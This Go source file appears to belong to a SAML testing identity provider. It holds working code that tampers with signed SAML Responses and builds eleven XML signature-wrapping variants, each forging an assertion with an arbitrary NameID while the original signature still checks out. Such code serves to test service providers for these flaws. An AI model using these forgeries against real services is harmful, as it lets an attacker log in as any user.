package idp

import (
	"bytes"
	"fmt"

	"github.com/beevik/etree"
)

// Tamper changes a Response after it was signed: the text old, which must be there, becomes replacement everywhere.
func Tamper(response []byte, old, replacement string) ([]byte, error) {
	if !bytes.Contains(response, []byte(old)) {
		return nil, fmt.Errorf("the Response does not hold %q", old)
	}
	return bytes.ReplaceAll(response, []byte(old), []byte(replacement)), nil
}

// A Wrapping is one way of signature wrapping: the signed element stays in the message, so that its signature is good,
// while another, forged one stands where a careless reader looks. They are named as in the literature ("On Breaking
// SAML", USENIX Security 2012) and the tools that came of it.
type Wrapping string

// The wrappings. The first two are of a signed Response, the others of a signed assertion.
const (
	WrapResponseInSignature   Wrapping = "xsw1"              // forged Response, the signed one within the Signature
	WrapResponseBeside        Wrapping = "xsw2"              // forged Response, the signed one before the Signature
	WrapAssertionBefore       Wrapping = "xsw3"              // forged assertion before the signed one
	WrapAssertionAround       Wrapping = "xsw4"              // forged assertion around the signed one
	WrapAssertionMoved        Wrapping = "xsw5"              // forged assertion with the Signature, the signed one behind
	WrapAssertionInSignature  Wrapping = "xsw6"              // as before, the signed one within the Signature
	WrapAssertionInExtensions Wrapping = "xsw7"              // forged assertion within Extensions, before the signed one
	WrapAssertionInObject     Wrapping = "xsw8"              // forged assertion, the signed one in an Object of the Signature
	WrapAssertionInStatus     Wrapping = "xsw-status-detail" // forged assertion, the signed one within StatusDetail
	WrapAssertionInAdvice     Wrapping = "xsw-advice"        // forged assertion, the signed one within its Advice
	WrapResponseInStatus      Wrapping = "xsw-response"      // forged Response, the signed one within StatusDetail
)

// Wrappings are all of them.
func Wrappings() []Wrapping {
	return []Wrapping{
		WrapResponseInSignature, WrapResponseBeside, WrapAssertionBefore, WrapAssertionAround, WrapAssertionMoved,
		WrapAssertionInSignature, WrapAssertionInExtensions, WrapAssertionInObject, WrapAssertionInStatus, WrapAssertionInAdvice, WrapResponseInStatus,
	}
}

// Signs says which mode a Response needs for this wrapping.
func (w Wrapping) Signs() Mode {
	if w == WrapResponseInSignature || w == WrapResponseBeside || w == WrapResponseInStatus {
		return SignResponse
	}
	return SignAssertion
}

// Wrap forges a Response in which a careless reader finds the NameID nameID. The mode of the Response must be
// [Wrapping.Signs].
func Wrap(response []byte, w Wrapping, nameID string) ([]byte, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(response); err != nil {
		return nil, fmt.Errorf("read the Response: %w", err)
	}
	root := doc.Root()
	if w.Signs() == SignResponse {
		return wrapResponse(root, w, nameID)
	}
	assertion := root.SelectElement("Assertion")
	if assertion == nil || assertion.SelectElement("Signature") == nil {
		return nil, fmt.Errorf("%s needs a Response with a signed assertion", w)
	}
	signature := assertion.SelectElement("Signature")
	at := assertion.Index()

	// The forged one begins as a copy of the signed one, without its signature.
	forged := forge(assertion, nameID)
	switch w {
	case WrapAssertionBefore:
		root.InsertChildAt(at, forged)
	case WrapAssertionAround:
		root.RemoveChildAt(at)
		forged.AddChild(assertion)
		root.AddChild(forged)
	case WrapAssertionMoved:
		assertion.RemoveChild(signature)
		forged.InsertChildAt(1, signature)
		root.InsertChildAt(at, forged)
	case WrapAssertionInSignature:
		root.RemoveChildAt(at)
		assertion.RemoveChild(signature)
		signature.AddChild(assertion)
		forged.InsertChildAt(1, signature)
		root.AddChild(forged)
	case WrapAssertionInExtensions:
		extensions := element("samlp:Extensions")
		extensions.AddChild(forged)
		root.InsertChildAt(at, extensions)
	case WrapAssertionInObject:
		root.RemoveChildAt(at)
		assertion.RemoveChild(signature)
		object := element("ds:Object")
		object.AddChild(assertion)
		signature.AddChild(object)
		forged.InsertChildAt(1, signature)
		root.AddChild(forged)
	case WrapAssertionInStatus:
		root.RemoveChildAt(at)
		detail := element("samlp:StatusDetail")
		detail.AddChild(assertion)
		root.SelectElement("Status").AddChild(detail)
		root.AddChild(forged)
	case WrapAssertionInAdvice:
		root.RemoveChildAt(at)
		advice := element("saml:Advice")
		advice.AddChild(assertion)
		forged.AddChild(advice)
		root.AddChild(forged)
	default:
		return nil, fmt.Errorf("there is no wrapping %q", w)
	}
	return serialize(root)
}

func wrapResponse(root *etree.Element, w Wrapping, nameID string) ([]byte, error) {
	signature := root.SelectElement("Signature")
	if signature == nil {
		return nil, fmt.Errorf("%s needs a signed Response", w)
	}
	forged := root.Copy()
	forged.RemoveChild(forged.SelectElement("Signature"))
	forged.CreateAttr("ID", "_forged-response")
	assertion := forged.SelectElement("Assertion")
	at := assertion.Index()
	forged.RemoveChildAt(at)
	forged.InsertChildAt(at, forge(assertion, nameID))
	switch w {
	case WrapResponseInSignature:
		root.RemoveChild(signature)
		signature.AddChild(root)
		forged.InsertChildAt(1, signature)
	case WrapResponseBeside:
		root.RemoveChild(signature)
		forged.InsertChildAt(1, root)
		forged.InsertChildAt(2, signature)
	default:
		detail := element("samlp:StatusDetail")
		detail.AddChild(root)
		forged.SelectElement("Status").AddChild(detail)
	}
	return serialize(forged)
}

// forge copies an assertion without its signature, and gives it another ID and NameID.
func forge(assertion *etree.Element, nameID string) *etree.Element {
	forged := assertion.Copy()
	if signature := forged.SelectElement("Signature"); signature != nil {
		forged.RemoveChild(signature)
	}
	forged.CreateAttr("ID", "_forged-assertion")
	forged.FindElement("./Subject/NameID").SetText(nameID)
	return forged
}
